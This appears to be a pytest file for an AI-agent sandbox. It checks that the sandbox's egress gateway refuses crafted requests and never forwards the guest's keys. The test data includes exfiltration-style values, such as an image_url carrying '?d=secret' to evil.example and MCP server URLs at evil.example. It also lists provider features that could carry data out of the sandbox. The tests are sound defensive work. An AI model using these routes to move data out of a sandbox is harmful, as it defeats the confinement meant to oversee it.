"""The gateway never fails open, through the real guest: a body that breaks the checker, a request
line naming another host, what a model-API grant refuses, and a gateway that crashes mid-session.

The guest writes raw HTTP through its proxy (a CONNECT with its session token, TLS with the
gateway's CA, then any bytes), so nothing a client library would tidy up is tidied. "Refused" is
proven where it matters: the upstream (``tests.egress.upstream``) recorded nothing, and no real
or guest key arrived; each refusal is a recorded decision.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import secrets
import signal
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from paddock.core.engine import Engine
from paddock.egress import Decision, gateway
from paddock.policy import EffectivePolicy, EgressGrant
from paddock.sandbox import Sandbox
from tests.egress.upstream import Upstream

pytestmark = pytest.mark.vm

HOST = "api.example.test"
GUEST_KEY = f"guest-own-key-{secrets.token_hex(8)}"

# Runs in the guest: CONNECT through the proxy with this session's token, TLS, then the raw request
# (base64 in argv[2]); prints "STATUS <code>" or "ERROR <what>".
RAW = r"""
import base64, os, socket, ssl, sys
proxy = os.environ["HTTPS_PROXY"]
token = proxy.split("://", 1)[1].rsplit("@", 1)[0].split(":", 1)[1]
host, raw = sys.argv[1], base64.b64decode(sys.argv[2])
auth = base64.b64encode(("paddock:" + token).encode()).decode()
try:
    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
    s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\nProxy-Authorization: Basic {auth}\r\n\r\n".encode())
    reply = b""
    while b"\r\n\r\n" not in reply:
        chunk = s.recv(4096)
        if not chunk:
            break
        reply += chunk
    if b" 200 " not in reply.split(b"\r\n", 1)[0]:
        print("STATUS", (reply.split(b" ") + [b"", b"0"])[1].decode())
        sys.exit()
    tls = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(s, server_hostname=host)
    tls.sendall(raw)
    answer = tls.recv(65536)
    print("STATUS", answer.split(b" ")[1].decode() if answer else "closed", answer[:300])
except Exception as e:
    print("ERROR", type(e).__name__, str(e)[:200])
"""


@dataclass
class Guest:
    sandbox: Sandbox
    upstream: Upstream
    engine: Engine
    keys: dict[str, str]

    def send(self, raw: bytes) -> str:
        argv = ["python3", ".raw.py", HOST, base64.b64encode(raw).decode()]
        out, err, _ = self.engine.run(self.sandbox.guest.run(argv, timeout_s=60), timeout=120)
        return (out + err).decode(errors="replace")

    def decisions(self) -> list[Decision]:
        """Decisions made since the last call (all of them: the gateway's channel is settled first)."""
        if self.sandbox.gateway is None:
            return []
        self.engine.run(self.sandbox.gateway.settle(), timeout=60)
        return self.sandbox.gateway.decisions()


def raw_request(method: str, target: str, body: object, headers: dict[str, str] | None = None) -> bytes:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    head = {"Host": HOST, "Content-Type": "application/json", "x-api-key": GUEST_KEY,
            "Authorization": f"Bearer {GUEST_KEY}", "Content-Length": str(len(data)), "Connection": "close",
            **(headers or {})}  # fmt: skip
    return (
        f"{method} {target} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in head.items()) + "\r\n"
    ).encode() + data


@pytest.fixture(scope="module")
def guest(engine: Engine, guest_image: object, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guest]:
    base = tmp_path_factory.mktemp("fail-closed")
    upstream = Upstream(base, HOST)
    workspace = base / "workspace"
    workspace.mkdir()
    (workspace / ".raw.py").write_text(RAW)
    keys = {
        "model-key": f"real-model-key-{secrets.token_hex(12)}",
        "chat-key": f"real-chat-key-{secrets.token_hex(12)}",
    }
    policy = EffectivePolicy(grants=[
        EgressGrant(id="messages", host=HOST, methods=["POST"], path_pattern="/v1/*", credential="model-key",
                    credential_header="x-api-key", api="anthropic-messages"),
        EgressGrant(id="chat", host=HOST, methods=["GET", "POST"], path_pattern="/openai/*", credential="chat-key",
                    api="openai-chat"),
    ])  # fmt: skip
    gateway.LOOPBACK_UPSTREAMS[HOST] = f"127.0.0.1:{upstream.port}"
    gateway.UPSTREAM_CA = upstream.ca
    try:
        sandbox = engine.run(Sandbox.boot(workspace, policy=policy, secrets=keys), timeout=180)
        try:
            yield Guest(sandbox, upstream, engine, keys)
        finally:
            engine.run(sandbox.close(), timeout=60)
    finally:
        gateway.LOOPBACK_UPSTREAMS.clear()
        gateway.UPSTREAM_CA = None
        upstream.close()


PLAIN = {"model": "m", "max_tokens": 64, "messages": [{"role": "user", "content": "hi"}]}
CHAT = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}


def _refused(guest: Guest, raw: bytes, why: str) -> None:
    before = len(guest.upstream.hits)
    guest.decisions()  # those made so far
    out = guest.send(raw)
    assert "STATUS 403" in out, (why, out)
    assert guest.upstream.hits[before:] == [], f"{why}: the request reached the upstream"
    new = guest.decisions()
    assert new and not any(d.allowed for d in new), f"{why}: no refusal was recorded"


def test_a_body_that_breaks_the_checker_is_refused(guest: Guest) -> None:
    """``tools`` that is not a list (TypeError) and a body nested 5000 deep (RecursionError) made the
    old checker raise, and mitmproxy forwarded the request unchecked: the guest's key and
    ``mcp_servers`` reached the upstream."""
    bad_tools = {**PLAIN, "tools": 5, "mcp_servers": [{"type": "url", "url": "https://evil.example/mcp", "name": "x"}]}
    _refused(guest, raw_request("POST", "/v1/messages", bad_tools), "tools: 5")
    deep = b'{"model": "m", "messages": ' + b"[" * 5000 + b"]" * 5000 + b"}"
    _refused(guest, raw_request("POST", "/v1/messages", deep), "nested 5000 deep")


def test_a_request_line_naming_another_host_is_refused(guest: Guest) -> None:
    for target in ("https://elsewhere.example/v1/messages", f"https://{HOST}/v1/messages"):
        _refused(guest, raw_request("POST", target, PLAIN), target)


def test_a_plain_model_request_passes_with_the_real_key_only(guest: Guest) -> None:
    for path, body, header, key in (("/v1/messages", PLAIN, "x-api-key", guest.keys["model-key"]),
                                    ("/openai/v1/chat/completions", CHAT, "authorization",
                                     f"Bearer {guest.keys['chat-key']}")):  # fmt: skip
        before = len(guest.upstream.hits)
        out = guest.send(raw_request("POST", path, body))
        assert "STATUS 200" in out, out
        (hit,) = guest.upstream.hits[before:]
        assert hit["headers"][header] == key and GUEST_KEY not in json.dumps(hit["headers"])


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/openai/v1/chat/completions", {**CHAT, "web_search_options": {}}),
        ("/openai/v1/chat/completions", {**CHAT, "messages": [{"role": "user", "content": [
            {"type": "image_url", "image_url": {"url": "https://evil.example/?d=secret"}}]}]}),
        ("/openai/v1/chat/completions", {**CHAT, "messages": [{"role": "user", "content": [
            {"type": "file", "file": {"file_id": "file-abc"}}]}]}),
        ("/openai/v1/chat/completions", {**CHAT, "tools": [{"type": "web_search"}]}),
        ("/openai/v1/responses", {**CHAT, "tools": [{"type": "mcp", "server_url": "https://evil.example"}]}),
        ("/openai/v1/files", CHAT),
        ("/openai/v1/batches", CHAT),
        ("/v1/messages/batches", {"requests": [{"custom_id": "a", "params": PLAIN}]}),
        ("/v1/files", PLAIN),
        ("/v1/messages", {**PLAIN, "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
        ("/v1/messages", {**PLAIN, "container": "container_1"}),
    ],
)  # fmt: skip
def test_a_model_api_grant_refuses_what_makes_the_provider_reach_out(guest: Guest, path: str, body: object) -> None:
    _refused(guest, raw_request("POST", path, body), f"{path} {json.dumps(body)[:80]}")


# Last in this file: it kills the gateway, so the sandbox has no egress afterwards.
def test_a_gateway_crash_stops_egress_and_is_recorded(guest: Guest) -> None:
    """Once the gateway process is gone its port may be anyone's: a process of this computer that
    takes it must get nothing from the guest, and the crash is a recorded decision."""
    gw = guest.sandbox.gateway
    assert gw is not None and gw._proc is not None
    port, proc = gw.port, gw._proc
    os.kill(proc.pid, signal.SIGKILL)
    deadline = time.monotonic() + 10
    while proc.returncode is None and time.monotonic() < deadline:
        guest.engine.run(_sleep(0.05))
    squatter = socket.socket()
    squatter.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    squatter.bind(("127.0.0.1", port))
    squatter.listen(8)
    accepted: list[bytes] = []

    def serve() -> None:
        squatter.settimeout(1.0)
        while not stop.is_set():
            try:
                conn, _ = squatter.accept()
            except OSError:
                continue
            conn.settimeout(2.0)
            try:
                accepted.append(conn.recv(4096) or b"(connected)")
            except OSError:
                accepted.append(b"(connected)")
            conn.close()

    stop = threading.Event()
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        out = guest.send(raw_request("POST", "/v1/messages", PLAIN))
    finally:
        stop.set()
        thread.join(5)
        squatter.close()
    assert "STATUS 200" not in out, out
    assert accepted == [], f"the guest reached whatever took the gateway's port: {accepted!r}"
    assert any("egress gateway stopped unexpectedly" in d.reason for d in guest.decisions())


async def _sleep(seconds: float) -> None:
    await asyncio.sleep(seconds)
